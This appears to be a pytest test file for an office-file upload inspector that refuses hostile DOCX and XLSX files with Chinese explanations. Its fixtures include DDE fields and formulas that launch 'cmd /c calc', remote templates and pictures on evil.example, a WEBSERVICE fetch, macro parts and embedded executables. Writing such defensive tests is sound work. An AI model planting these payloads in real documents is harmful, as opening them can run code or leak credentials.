"""Office files that run, embed or fetch something."""

import io
import re
import zipfile

import msgspec
import pytest

from core.files.archive import DAMAGED, FORGED
from core.files.inspection import inspect_file
from core.files.limits import LIMITS
from core.files.refusal import FileRefused
from tests.core.files.samples import (
    OLE_MAGIC,
    make_docx,
    make_field,
    make_noise,
    make_pdf,
    make_xlsx,
    mark,
    rebuild,
    replace_in,
    with_body,
    with_relation,
)

DOCX = make_docx()
XLSX = make_xlsx()
TYPES = "[Content_Types].xml"
DOCUMENT = "word/document.xml"
SHEET = "xl/worksheets/sheet1.xml"
DOCUMENT_RELATIONS = "word/_rels/document.xml.rels"
WORKBOOK_RELATIONS = "xl/_rels/workbook.xml.rels"
SETTINGS_RELATIONS = "word/_rels/settings.xml.rels"

MACRO = "文件里有宏，已拒绝。请在 WPS 或 Office 中另存为不带宏的 {}后再上传。"
EMBEDDED = "文件里嵌入了其他文件或控件，已拒绝。请把它们删除或改成图片，需要的附件单独上传。"
EXTERNAL_LINK = "表格引用了其他文件或数据源，已拒绝。请在“数据—编辑链接”中断开链接、保留数值后再上传。"
TEMPLATE = "文件引用了外部模板，已拒绝。请在 Word 或 WPS 中改用默认模板（Normal）后另存再上传。"
PICTURE = "文件里的图片链接在外部网址上，已拒绝。请把图片重新插入文件中（不要链接）后再上传。"
DDE = "文件里有 DDE 域，打开时会运行其他程序，已拒绝。请在 Word 或 WPS 中删除该域（选中后 Ctrl+Shift+F9）后再上传。"
SHEET_DDE = "表格里有调用其他程序的公式（DDE），已拒绝。请删除这些公式，或把它们粘贴为数值后再上传。"
SHEET_FETCHING = "表格里有联网取数的公式（WEBSERVICE），已拒绝。请把它们粘贴为数值后再上传。"
TOO_WIDE = "表格超过 20000 行或 200 列，无法接收。请删去多余的行列，或拆成几个表后再上传。"


def linked(name: str) -> str:
    refused = f"文件里的域会从外部取内容（{name}），已拒绝。"
    return f"{refused}请在 Word 或 WPS 中选中全文，按 Ctrl+Shift+F9 把域变成文字后再上传。"


def other_kind(extension: str, label: str) -> str:
    return f"文件的扩展名是 .{extension}，内容却不是{label}。请用 WPS 或 Office 打开原文件，另存为正确的格式后再上传。"


def with_part(data: bytes, name: str, content: bytes, content_type: str) -> bytes:
    override = f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'
    return rebuild(replace_in(data, TYPES, "</Types>", override), {name: content})


def with_template(target: str) -> bytes:
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    )
    return rebuild(DOCX, {SETTINGS_RELATIONS: relations.encode()})


def with_sheet_xml(xml: str) -> bytes:
    return replace_in(XLSX, SHEET, "</sheetData>", f"{xml}</sheetData>")


def nested(depth: int) -> str:
    return "<w:r>" * depth + "</w:r>" * depth


HOSTILE_DOCX: dict[str, tuple[bytes, str]] = {
    "macro part": (
        with_part(DOCX, "word/vbaProject.bin", OLE_MAGIC, "application/vnd.ms-office.vbaProject"),
        MACRO.format("Word 文档"),
    ),
    "docm under another name": (
        replace_in(
            DOCX,
            TYPES,
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
        MACRO.format("Word 文档"),
    ),
    "macro by relationship alone": (
        with_relation(DOCX, DOCUMENT_RELATIONS, "vbaProject", "x.bin", "Internal"),
        MACRO.format("文件"),
    ),
    "OLE object by type": (
        with_part(DOCX, "word/embeddings/a.bin", b"x", "application/vnd.openxmlformats-officedocument.oleObject"),
        EMBEDDED,
    ),
    "OLE object by its bytes": (rebuild(DOCX, {"word/media/image1.png": OLE_MAGIC + bytes(50)}), EMBEDDED),
    "OLE object by relationship": (with_relation(DOCX, DOCUMENT_RELATIONS, "oleObject", "x", "Internal"), EMBEDDED),
    "ActiveX control": (
        with_part(DOCX, "word/activeX/activeX1.xml", b"<x/>", "application/vnd.ms-office.activeX+xml"),
        EMBEDDED,
    ),
    "embedded page": (with_relation(DOCX, DOCUMENT_RELATIONS, "aFChunk", "a.html", "Internal"), EMBEDDED),
    "nested archive": (rebuild(DOCX, {"word/media/image1.png": make_docx()}), EMBEDDED),
    "program": (rebuild(DOCX, {"word/media/image1.png": b"MZ\x90\x00"}), EMBEDDED),
    "remote template": (with_template("https://evil.example/a.dotm"), TEMPLATE),
    "template on a share": (with_template("file://host/share/a.dotm"), TEMPLATE),
    "template on a share, other slashes": (with_template("\\\\host\\share\\a.dotm"), TEMPLATE),
    "remote picture": (with_relation(DOCX, DOCUMENT_RELATIONS, "image", "http://evil.example/a.png"), PICTURE),
    "remote object": (
        with_relation(DOCX, DOCUMENT_RELATIONS, "frame", "http://evil.example/a.html"),
        "文件引用了外部内容（frame），已拒绝。请删除该引用后另存再上传。",
    ),
    "DDE": (with_body(make_field('DDE cmd "/c calc"')), DDE),
    "DDEAUTO in small letters": (with_body(make_field(' ddeauto c:\\\\x.exe "a"')), DDE),
    "DDE in pieces": (with_body(make_field("DD", "EAU", 'TO cmd "/c calc"')), DDE),
    "DDE in a simple field": (with_body('<w:fldSimple w:instr="DDE cmd x"/>'), DDE),
    "DDE without its begin mark": (with_body("<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>"), DDE),
    "DDE inside another field": (
        with_body(
            f"<w:r>{mark('begin')}<w:instrText>IF 1 = 1 </w:instrText></w:r>{make_field('DDE cmd x')}"
            f"<w:r>{mark('end')}</w:r>"
        ),
        DDE,
    ),
    "field whose name is computed": (
        with_body(f"<w:r>{mark('begin')}</w:r>{make_field('QUOTE 68 68 69')}<w:r>{mark('end')}</w:r>"),
        DDE,
    ),
    "DDE behind many blanks": (with_body(make_field(" " * 9_000, "DDE cmd x")), DDE),
    "DDE never ended": (with_body(f"<w:r>{mark('begin')}<w:instrText>DDE cmd x</w:instrText></w:r>"), DDE),
    "fetched text": (with_body(make_field('INCLUDETEXT "\\\\\\\\host\\\\a.docx"')), linked("INCLUDETEXT")),
    "fetched picture": (with_body(make_field('INCLUDEPICTURE "http://evil.example/a"')), linked("INCLUDEPICTURE")),
    "link to a sheet": (with_body(make_field('LINK Excel.Sheet.12 "C:\\\\a.xlsx"')), linked("LINK")),
    "entities": (
        rebuild(DOCX, {DOCUMENT: b'<!DOCTYPE a [<!ENTITY b "x">]>' + b"<a>&b;</a>"}),
        FORGED,
    ),
    "entities in UTF-16": (
        rebuild(DOCX, {DOCUMENT: '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")}),
        FORGED,
    ),
    "broken XML": (rebuild(DOCX, {DOCUMENT: b"<w:document>"}), DAMAGED),
    "unknown encoding": (rebuild(DOCX, {DOCUMENT: b'<?xml version="1.0" encoding="klingon"?><a/>'}), DAMAGED),
    "nested too deep": (with_body(nested(300)), DAMAGED),
    "endless tag": (
        rebuild(DOCX, {"customXml/item1.xml": b"<a b='" + make_noise(6_000_000)}),
        DAMAGED,
    ),
    "type named twice": (
        replace_in(DOCX, TYPES, "</Types>", f'<Override PartName="/{DOCUMENT}" ContentType="x"/></Types>'),
        FORGED,
    ),
    "no content types": (rebuild(DOCX, {TYPES: None}), DAMAGED),
    "a workbook under another name": (XLSX, other_kind("docx", "Word 文档")),
    "any other archive": (rebuild(DOCX, {TYPES: b"<Types/>"}), other_kind("docx", "Word 文档")),
}

HOSTILE_XLSX: dict[str, tuple[bytes, str]] = {
    "old macro sheet": (
        with_part(XLSX, "xl/macrosheets/a.xml", b"<x/>", "application/vnd.ms-excel.macrosheet+xml"),
        MACRO.format("Excel 表格"),
    ),
    "link to another book": (
        with_part(
            XLSX,
            "xl/externalLinks/externalLink1.xml",
            b"<x/>",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
        ),
        EXTERNAL_LINK,
    ),
    "data connection": (
        with_part(
            XLSX,
            "xl/connections.xml",
            b"<x/>",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
        ),
        EXTERNAL_LINK,
    ),
    "link by relationship": (
        with_relation(XLSX, WORKBOOK_RELATIONS, "externalLink", "x.xml", "Internal"),
        EXTERNAL_LINK,
    ),
    "DDE formula": (make_xlsx({"A1": "=cmd|'/C calc'!A0"}), SHEET_DDE),
    "DDE formula after a sum": (make_xlsx({"A1": "=SUM(1)+cmd|'/C calc'!A0"}), SHEET_DDE),
    "DDE call": (make_xlsx({"A1": '=DDE("soffice";"a";"b")'}), SHEET_DDE),
    "DDE in a name": (
        replace_in(
            XLSX,
            "xl/workbook.xml",
            "</workbook>",
            "<definedNames><definedName name='a'>cmd|'/C calc'!A0</definedName></definedNames></workbook>",
        ),
        SHEET_DDE,
    ),
    "formula from the network": (make_xlsx({"A1": '=_xlfn.WEBSERVICE("http://evil.example")'}), SHEET_FETCHING),
    "endless formula": (
        with_sheet_xml(f"<row r='9'><c><f>{'A1+' * 30_000}A1</f></c></row>"),
        DAMAGED,
    ),
    "far cell": (make_xlsx({"XFD1048576": "x"}), TOO_WIDE),
    "row 20,001": (make_xlsx({"A20001": "x"}), TOO_WIDE),
    "column 201": (make_xlsx({"GS1": "x"}), TOO_WIDE),
    "far cell that does not say where it is": (
        with_sheet_xml(f'<row r="9">{"<c/>" * 200}<c><v>1</v></c></row>'),
        TOO_WIDE,
    ),
    "far row that does not say where it is": (
        with_sheet_xml('<row r="20000"/><row><c><v>1</v></c></row>'),
        TOO_WIDE,
    ),
    "a document under another name": (DOCX, other_kind("xlsx", "Excel 表格")),
}


@pytest.mark.parametrize("case", HOSTILE_DOCX)
def test_hostile_document_is_refused(case: str) -> None:
    data, sentence = HOSTILE_DOCX[case]
    with pytest.raises(FileRefused) as caught:
        inspect_file("a.docx", data, "notice")
    assert caught.value.sentence == sentence


@pytest.mark.parametrize("case", HOSTILE_XLSX)
def test_hostile_workbook_is_refused(case: str) -> None:
    data, sentence = HOSTILE_XLSX[case]
    with pytest.raises(FileRefused) as caught:
        inspect_file("a.xlsx", data, "attachment")
    assert caught.value.sentence == sentence


def test_element_budget_covers_the_whole_file() -> None:
    with zipfile.ZipFile(io.BytesIO(XLSX)) as archive:
        elements = sum(len(re.findall(rb"<[A-Za-z]", archive.read(name))) for name in archive.namelist())
    assert inspect_file("a.xlsx", XLSX, "attachment", msgspec.structs.replace(LIMITS, elements=elements)).kind == "xlsx"
    with pytest.raises(FileRefused) as caught:
        inspect_file("a.xlsx", XLSX, "attachment", msgspec.structs.replace(LIMITS, elements=elements - 1))
    assert caught.value.sentence == "文件内容过于庞大，无法处理。请拆成几个文件后再上传。"


@pytest.mark.parametrize(
    "data",
    [
        with_relation(DOCX, DOCUMENT_RELATIONS, "hyperlink", "https://www.example.cn/"),
        with_template("file:///C:\\Users\\zhang\\Templates\\Normal.dotm"),
        with_relation(DOCX, DOCUMENT_RELATIONS, "image", "file:///D:/pasted/wps1.jpg"),
        with_body(make_field(" PAGE  \\* MERGEFORMAT ")),
        with_body(make_field("HYPERLINK ", '"https://www.example.cn/"')),
        with_body(make_field('INCLUDEPICTURE "C:\\\\Users\\\\a.png" \\* MERGEFORMAT')),
        with_body(
            f"<w:r>{mark('begin')}<w:instrText>IF </w:instrText></w:r>{make_field('MERGEFIELD a')}"
            f"<w:r><w:instrText> = 1</w:instrText>{mark('end')}</w:r>"
        ),
        with_body(f"<w:r>{mark('end')}{mark('separate')}</w:r>"),
        rebuild(DOCX, {"word/media/image1.emf": make_pdf()}),
        with_body(nested(200)),
    ],
)
def test_harmless_document_is_taken(data: bytes) -> None:
    assert inspect_file("a.docx", data, "notice").kind == "docx"


@pytest.mark.parametrize(
    "data",
    [
        with_sheet_xml('<row r="1048576"><c r="XFD1048576" s="1"/></row>'),
        make_xlsx({"A1": "=\"a|b\"&'甲|乙'!A1", "A2": "cmd|'/C calc'!A0"}),
    ],
)
def test_harmless_workbook_is_taken(data: bytes) -> None:
    assert inspect_file("a.xlsx", data, "attachment").kind == "xlsx"
